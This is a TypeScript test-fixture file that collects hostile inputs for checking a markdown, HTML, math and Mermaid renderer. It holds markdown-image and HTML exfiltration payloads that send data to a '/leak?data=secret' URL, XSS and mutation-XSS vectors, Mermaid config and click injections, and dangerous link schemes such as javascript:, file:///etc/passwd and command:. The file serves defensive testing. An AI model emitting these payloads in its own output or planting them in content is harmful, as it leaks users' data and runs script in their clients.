/**
 * Texts that would make a careless renderer ask the network, run a script, or offer a link that is none.
 *
 * @param origin where they try to reach
 */
export function hostileTexts(origin: string): string[] {
  const url = `${origin}/leak?data=secret`;
  return [
    `![inline](${url})`,
    `![reference][r]\n\n[r]: ${url}`,
    `![shortcut]\n\n[shortcut]: <${url}> "t"`,
    `![collapsed][]\n\n[collapsed]: ${url}`,
    `[![nested](${url})](${url})`,
    `| ![in table](${url}) |\n|---|\n| ![in cell](${url}) |`,
    `- ![in list](${url})\n> ![in quote](${url})`,
    `![x](//${new URL(origin).host}/leak)`,
    `<img src="${url}">`,
    `<img srcset="${url} 1x, ${url}&b 2x">`,
    `<picture><source srcset="${url}"><img></picture>`,
    `<video poster="${url}" src="${url}" autoplay></video>`,
    `<audio src="${url}" autoplay></audio>`,
    `<svg><image href="${url}"/><feImage href="${url}"/><use href="${url}#a"/><script href="${url}"></script></svg>`,
    `<math><mtext><img src="${url}"></mtext></math>`,
    `<div style="background:url(${url})">x</div>`,
    `<style>@import "${url}"; body { background: url(${url}) }</style>`,
    `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
    `<input type="image" src="${url}">`,
    `<form action="${url}"><button autofocus formaction="${url}">go</button></form>`,
    `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`,
    `<link rel="stylesheet" href="${url}"><link rel="prefetch" href="${url}"><base href="${origin}/">`,
    `<script src="${url}"></script><script>fetch("${url}")</script>`,
    `<img src=x onerror="fetch('${url}')"><body onload="fetch('${url}')">`,
    `<meta http-equiv="refresh" content="0;url=${url}">`,
    `<a href="javascript:fetch('${url}')" ping="${url}">x</a>`,
    `<details open ontoggle="fetch('${url}')">x</details>`,
    `<noscript><p title="</noscript><img src=${url}>">`,
    `<svg></p><style><a id="</style><img src=${url}>">`,
    `\`\`\`"><img/src=${url}>\n\`\`\``,
    `\`\`\`mermaid\ngraph TD; A["<img src='${url}'>"] --> B\n\`\`\``,
    `\`<img src="${url}">\``,
    `<${url}/"><img/src="${url}">`,
    `[x](${url}"onmouseover="fetch)`,
    `$\\href{javascript:fetch('${url}')}{x}$ and \\(\\url{${url}}\\)`,
    `$$\n\\includegraphics[width=1em]{${url}}\n$$`,
    `\\[ \\htmlStyle{background:url(${url})}{x} = \\htmlData{onclick=fetch}{y} \\]`,
    `<math href="${url}"><maction actiontype="statusline" xlink:href="${url}"><annotation-xml encoding="text/html"><img src="${url}"></annotation-xml></maction></math>`,
  ];
}

/**
 * Diagrams that would make a careless renderer ask the network, run a script, offer a link, or look like a part of the panel.
 *
 * @param origin where they try to reach
 */
export function hostileDiagrams(origin: string): string[] {
  const url = `${origin}/leak?data=secret`;
  const options = JSON.stringify({
    securityLevel: 'loose',
    htmlLabels: true,
    flowchart: { htmlLabels: true },
    themeCSS: `@import "${url}"; * { background: url(${url}) }`,
    fontFamily: `x; background: url(${url})`,
  });
  const label = `<img src='${url}' onerror='fetch(1)'><script>fetch('${url}')</script>`;
  return [
    `graph TD; A["${label}"] --> B`,
    `%%{init: ${options}}%%\ngraph TD; A["${label}"] --> B`,
    `%%%%{x}%%{init: ${options}}%%\ngraph TD; A --> B`,
    `---\nconfig: ${options}\n---\ngraph TD\nA["${label}"] --> B`,
    `---\n---\n---\nconfig: ${options}\n---\ngraph TD\nA["${label}"] --> B`,
    `graph TD\nA --> B\nclick A href "${url}" _self\nclick B call fetch("${url}")`,
    `graph TD\nA --> B\nclick A "javascript:fetch('${url}')"`,
    `graph TD\nA@{ img: "${url}", label: "x", w: 60, h: 60 } --> B`,
    `graph TD\nA@{ icon: "fa:${url}", label: "x" } --> B`,
    `graph TD\nA["fa:fa-car ![x](${url})"] --> B["\`![x](${url}) [y](${url})\`"]`,
    `graph TD\nA --> B\nstyle A fill:url(${url})\nclassDef primary background:url(${url})\nclass A,B primary`,
    `graph TD\nA:::only-spoken --> B:::button\nlinkStyle 0 stroke:url(${url})`,
    `graph TD\nA["$$\\\\includegraphics{${url}}$$"] --> B`,
    `sequenceDiagram\nparticipant A\nlink A: x @ ${url}\nlinks A: {"y": "${url}"}\nproperties A: {"icon": "${url}"}\nA->>B: ${label}`,
    `classDiagram\nclass A["${label}"]\nlink A "${url}" "x" _blank\ncallback A "fetch"\nA <|-- B`,
    `stateDiagram-v2\n[*] --> A: ${label}\nclassDef button background:url(${url})\nclass A button`,
    `erDiagram\nA ||--o{ B : "${label}"\nA {\n string b "${label}"\n}`,
    `graph TD\naccTitle: ${label}\naccDescr: ${label}\nA --> B`,
  ];
}

/** Links that must not be links. */
export const badLinks: readonly string[] = [
  '[run](command:workbench.action.terminal.new)',
  '[run](<command:x?%5B%5D>)',
  '[open](vscode://file/etc/passwd)',
  '[open](vscode-insiders:extension)',
  '[open](file:///etc/passwd)',
  '[open](\\\\\\\\server\\\\share)',
  '[data](data:text/html;base64,PHNjcmlwdD4=)',
  '[relative](//example.com/x)',
  '[relative](./src/a.ts)',
  '[script](javascript:alert(1))',
  '[script](JaVaScRiPt:alert(1))',
  '[script](&#106;avascript:alert(1))',
  '[mail](mailto:a@example.com)',
  '[blob](blob:https://example.com/1)',
  '[web](https:/example.com)',
  '[web](http:)',
  '[by reference][evil]\n\n[evil]: command:run',
  '<command:run> <vscode://x> <javascript:alert(1)>',
  'a@example.com ftp://example.com //example.com',
];

/** Elements that load, style, submit or run, among some that an answer may have. */
export const hostileTags: readonly string[] = [
  ...['img', 'picture', 'source', 'video', 'audio', 'track', 'iframe', 'frame', 'object', 'embed', 'portal', 'svg'],
  ...['image', 'use', 'script', 'style', 'link', 'meta', 'base', 'form', 'input', 'button', 'textarea', 'select'],
  ...['math', 'template', 'slot', 'dialog', 'details', 'marquee', 'body', 'html', 'head', 'x-element', 'IMG', 'Script'],
  ...['constructor', '__proto__', 'toString', 'a', 'p', 'code', 'td', 'table', 'li', 'pre'],
];

/** Elements that a formula must not have, among some that it may. */
export const hostileMathTags: readonly string[] = [
  ...[
    'maction',
    'annotation-xml',
    'mglyph',
    'semantics',
    'a',
    'img',
    'script',
    'style',
    'foreignObject',
    'constructor',
  ],
  ...['math', 'mi', 'mo', 'mtext', 'mspace', 'mstyle', 'mpadded', 'mtable', 'menclose', 'merror'],
];

/** Attributes that load, style or run. @param url where they try to reach */
export function hostileAttributes(url: string): Record<string, string> {
  const handler = `fetch('${url}')`;
  return {
    ...{ src: url, srcset: `${url} 1x`, href: `javascript:${handler}`, 'xlink:href': url, data: url, poster: url },
    ...{
      background: url,
      action: url,
      formaction: url,
      ping: url,
      srcdoc: `<img src="${url}">`,
      content: `0;url=${url}`,
    },
    ...{ 'http-equiv': 'refresh', style: `background:url(${url})`, rel: 'stylesheet', id: 'root', name: 'root' },
    ...{ onerror: handler, onload: handler, onclick: handler, onfocus: handler, ontoggle: handler, autofocus: '' },
  };
}
